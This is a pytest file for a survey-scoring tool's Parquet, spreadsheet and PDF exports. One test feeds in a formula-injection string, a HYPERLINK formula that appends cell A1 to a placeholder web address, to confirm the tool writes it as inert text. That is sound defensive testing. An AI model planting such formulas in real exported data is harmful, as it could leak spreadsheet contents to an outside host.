"""``-o results.parquet``, ``-o results.xlsx`` and ``-o report.pdf``, checked structurally."""

from __future__ import annotations

import json
import os
import shutil
from pathlib import Path

import polars as pl
import pytest
from typer.testing import CliRunner

import leadlens
from conftest import EXAMPLES
from leadlens.cli import app
from output_checks import check_parquet, check_pdf, check_xlsx

runner = CliRunner()
RESPONSES = EXAMPLES / "responses.csv"
NASTY = '=HYPERLINK("http://example.invalid/?x="&A1,"Click")'


def _score(*args: str) -> tuple[int, str, str]:
    result = runner.invoke(app, ["score", *args])
    return result.exit_code, result.stdout, result.stderr


@pytest.fixture
def results_json(tmp_path: Path) -> dict[str, object]:
    out = tmp_path / "results.json"
    code, _, err = _score(str(RESPONSES), "--by", "role", "-o", str(out))
    assert code == 0, err
    document: dict[str, object] = json.loads(out.read_text(encoding="utf-8"))
    return document


@pytest.mark.parametrize(("name", "check", "what"), [
    ("results.parquet", check_parquet, "tidy tables (Parquet)"),
    ("results.xlsx", check_xlsx, "spreadsheet")])
def test_outputs_by_extension(tmp_path: Path, results_json: dict[str, object], name: str,
                              check: object, what: str) -> None:
    out = tmp_path / name
    code, stdout, err = _score(str(RESPONSES), "--by", "role", "-o", str(out))
    assert (code, stdout) == (0, "")
    assert err == f"wrote {out} (60 respondents, {what})\n"
    check(out, results_json)  # type: ignore[operator]
    again = _score(str(RESPONSES), "--by", "role", "-o", str(out))
    assert again[0] == 1 and "--force" in again[2]  # never overwritten without --force


def test_the_parquet_file_is_the_tidy_tables_stacked(tmp_path: Path) -> None:
    out = tmp_path / "results.parquet"
    assert _score(str(RESPONSES), "--by", "role", "-o", str(out))[0] == 0
    results = leadlens.score(RESPONSES, by="role")
    stacked = pl.concat(list(results.tables().values()))
    assert pl.read_parquet(out).equals(stacked)


@pytest.mark.parametrize("fmt", ["parquet", "xlsx", "pdf"])
def test_binary_formats_are_never_written_to_a_terminal(fmt: str) -> None:
    code, out, err = _score(str(RESPONSES), "-f", fmt)
    assert (code, out) == (2, "")
    assert err == f"Error: --format {fmt}: a binary file; name it with -o FILE\n"


def test_spreadsheet_text_is_never_a_formula_and_withheld_cells_say_c(tmp_path: Path) -> None:
    frame = pl.read_csv(RESPONSES, infer_schema=False).with_columns(
        pl.col("role").replace({"Clinical leader": NASTY, "Senior leader": "Bell\x07 ring"}))
    source = tmp_path / "nasty.csv"
    frame.write_csv(source)
    out = tmp_path / "results.xlsx"
    code, _, err = _score(str(source), "--by", "role", "-o", str(out))
    assert code == 0, err
    document = leadlens.score(source, by="role")
    check_xlsx(out, json.loads(document.model_dump_json(by_alias=True)))
    from openpyxl import load_workbook

    sheet = load_workbook(out)["By role"]
    cells = {row[0].value: row for row in sheet.iter_rows(min_row=5)}
    clinical = next(g for g in leadlens.score(RESPONSES, by="role").groups["role"].groups
                    if g.value == "Clinical leader")
    assert cells[NASTY][0].data_type == "s" and cells[NASTY][1].value == clinical.n
    assert "Bell ring" in cells  # a control character a workbook cannot hold, dropped
    withheld = [g.value for g in document.groups["role"].groups if g.suppressed]
    assert withheld and all(cells[v][1].value == "[c]" for v in withheld)


def test_the_spreadsheet_cover_takes_the_title_and_organisation(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    out = tmp_path / "results.xlsx"
    code, _, err = _score(str(RESPONSES), "-o", str(out), "--title", "=North ICS, 2026",
                          "--organisation", "North Riverside ICS")
    assert code == 0, err
    cover = load_workbook(out)["Cover"]
    assert (cover["A1"].value, cover["A1"].data_type) == ("=North ICS, 2026", "s")
    texts = [c.value for c in cover["A"] if c.value]
    assert texts[texts.index("Published by") + 1] == "North Riverside ICS"


def test_pdf_without_a_browser_names_what_to_install(tmp_path: Path,
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("LEADLENS_CHROMIUM", raising=False)
    monkeypatch.setenv("PATH", str(tmp_path))  # no browser on it
    out = tmp_path / "report.pdf"
    code, _, err = _score(str(RESPONSES), "-o", str(out))
    assert code == 1 and not out.exists()
    assert err == (
        "PDF: printing a PDF needs a headless Chromium, Google Chrome or Microsoft Edge; none "
        "found (chromium, chromium-browser, google-chrome, google-chrome-stable, chrome, "
        "microsoft-edge, msedge on the PATH). "
        "Install Chromium (Debian or Ubuntu: apt-get install chromium; macOS: brew install "
        "--cask chromium), Google Chrome or Microsoft Edge, or set LEADLENS_CHROMIUM to the "
        "browser's path; or write -o report.html and print it from a browser\n")


def _browser() -> None:
    if shutil.which("chromium") is None:
        if os.environ.get("CI", "").lower() in {"1", "true", "yes"}:
            pytest.fail("chromium is not installed, and CI is set: apt-get install chromium")
        pytest.skip("chromium is not installed (apt-get install chromium)")


@pytest.mark.slow
def test_pdf_report_is_tagged_with_an_outline_and_the_headline_figures(
        tmp_path: Path, results_json: dict[str, object]) -> None:
    _browser()
    out = tmp_path / "report.pdf"
    code, _, err = _score(str(RESPONSES), "--by", "role", "-o", str(out))
    assert code == 0, err
    check_pdf(out, results_json)
    saved = tmp_path / "results.json"
    saved.write_text(json.dumps(results_json), encoding="utf-8")
    again = runner.invoke(app, ["report", str(saved), "-o", str(tmp_path / "again.pdf")])
    assert again.exit_code == 0, again.stderr
    check_pdf(tmp_path / "again.pdf", results_json)
